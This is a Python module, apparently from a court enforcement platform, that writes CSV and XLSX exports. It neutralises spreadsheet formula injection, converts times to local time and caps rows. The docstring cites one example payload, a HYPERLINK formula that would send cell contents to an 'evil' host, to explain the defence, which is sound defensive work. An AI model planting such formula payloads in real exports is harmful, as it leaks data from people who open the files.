"""Every CSV and XLSX file the platform hands out is written here: cells neutralised, times local.

Formula injection (OWASP "CSV Injection"): spreadsheet programs (Excel, WPS, LibreOffice) take a text
cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a line break as a formula, so a debtor
named ``=HYPERLINK("http://evil/?"&A1, "点击")`` would leak the sheet or, through DDE, run commands on
the judge's computer. Such text is written with a leading apostrophe (``'=HYPERLINK(...)``), which
every spreadsheet shows as text. Numbers stay numbers: an ``int``, ``Decimal`` or ``float`` is a
numeric cell and is never touched, and text that is exactly a plain number (``"-12.50"``) is not a
formula either and is kept as it is, so genuine negative amounts are not corrupted.

Dates and times: an aware datetime is converted to the platform's zone (`zhixing.core.localtime`); a
CSV carries ``YYYY-MM-DD HH:MM:SS``, an XLSX a real date cell.

Writers:

* `csv_bytes` / `csv_chunks` — a whole CSV at once or as an iterator for a streaming response
  (UTF-8 with a BOM so Excel reads the Chinese text);
* `XlsxBook` — an openpyxl write-only workbook (rows go to disk as they come, memory stays flat)
  whose sheets' `append` neutralises every cell; `to_bytes()` or `to_file()` + `file_chunks()`;
* `neutralise` — for code that assembles CSV text itself (one cell's text);
* `Counted` — passes rows through, counting them and stopping at a limit (Excel's row limit).
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import IO, Any

from . import localtime

# OWASP: = + - @ TAB CR; LF too, which some programs treat like CR.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A plain number, or a lone sign (a placeholder in bank statements): read as a value, never a formula.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)|[+-]")
# Control characters an XLSX cannot hold (openpyxl refuses them): dropped, never a failed export.
_XLSX_ILLEGAL = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")

EXCEL_MAX_ROWS = 1_048_576  # rows per worksheet, header included
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_NUMBERS = (bool, int, float, Decimal)


def is_formula(text: str) -> bool:
    """Whether a spreadsheet would read this text as a formula (the test of every export)."""
    return text.startswith(FORMULA_LEADS) and not _PLAIN_NUMBER.fullmatch(text)


def neutralise(text: str) -> str:
    """Text safe to put in a spreadsheet cell: formula-leading text gets a leading apostrophe."""
    return "'" + text if is_formula(text) else text


def cell(value: Any) -> Any:
    """One value as an XLSX cell: numbers and dates as such (times local), text neutralised."""
    if value is None:
        return None
    if isinstance(value, _NUMBERS):
        return value
    if isinstance(value, datetime):
        return localtime.local_naive(value)
    if isinstance(value, date):
        return value
    return neutralise(_XLSX_ILLEGAL.sub("", str(value)))


def text(value: Any) -> str:
    """One value as CSV text: numbers as written, times local, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, _NUMBERS):
        return str(value)
    if isinstance(value, datetime):
        return localtime.format_datetime(value)
    if isinstance(value, date):
        return value.isoformat()
    return neutralise(str(value))


def csv_chunks(rows: Iterable[Sequence[Any]], *, bom: bool = True, batch: int = 500) -> Iterator[bytes]:
    """A CSV (header included in `rows`) as UTF-8 chunks of about `batch` rows, for streaming."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    if bom:
        buf.write("\ufeff")
    for n, row in enumerate(rows, start=1):
        writer.writerow([text(v) for v in row])
        if n % batch == 0:
            yield buf.getvalue().encode("utf-8")
            buf.seek(0)
            buf.truncate()
    rest = buf.getvalue()
    if rest:
        yield rest.encode("utf-8")


def csv_bytes(rows: Iterable[Sequence[Any]], *, bom: bool = True) -> bytes:
    """A whole CSV (header included in `rows`) as UTF-8 bytes."""
    return b"".join(csv_chunks(rows, bom=bom))


class XlsxSheet:
    """A write-only worksheet whose `append` neutralises each cell (same call as openpyxl's)."""

    def __init__(self, ws: Any) -> None:
        self._ws = ws

    def append(self, values: Iterable[Any]) -> None:
        self._ws.append([cell(v) for v in values])


class XlsxBook:
    """An XLSX workbook written row by row (openpyxl write-only mode keeps memory flat)."""

    def __init__(self) -> None:
        from openpyxl import Workbook

        self._wb = Workbook(write_only=True)

    def sheet(self, title: str) -> XlsxSheet:
        return XlsxSheet(self._wb.create_sheet(title[:31]))

    def to_file(self) -> IO[bytes]:
        """The finished workbook in a temporary file (on disk past 8 MB), positioned at its start."""
        fh = tempfile.SpooledTemporaryFile(max_size=8 * 1024 * 1024)  # noqa: SIM115 - returned open
        self._wb.save(fh)
        fh.seek(0)
        return fh  # type: ignore[return-value]

    def to_bytes(self) -> bytes:
        buf = io.BytesIO()
        self._wb.save(buf)
        return buf.getvalue()


def file_chunks(fh: IO[bytes], size: int = 64 * 1024) -> Iterator[bytes]:
    """Read a file in chunks for a streaming response, closing it at the end."""
    try:
        while chunk := fh.read(size):
            yield chunk
    finally:
        fh.close()


class Counted:
    """Iterate `rows`, counting them, and stop after `limit` rows; `capped` tells if any were left out."""

    def __init__(self, rows: Iterable[Any], limit: int | None = None) -> None:
        self._rows = rows
        self.limit = limit
        self.count = 0
        self.capped = False

    def __iter__(self) -> Iterator[Any]:
        for row in self._rows:
            if self.limit is not None and self.count >= self.limit:
                self.capped = True
                return
            self.count += 1
            yield row
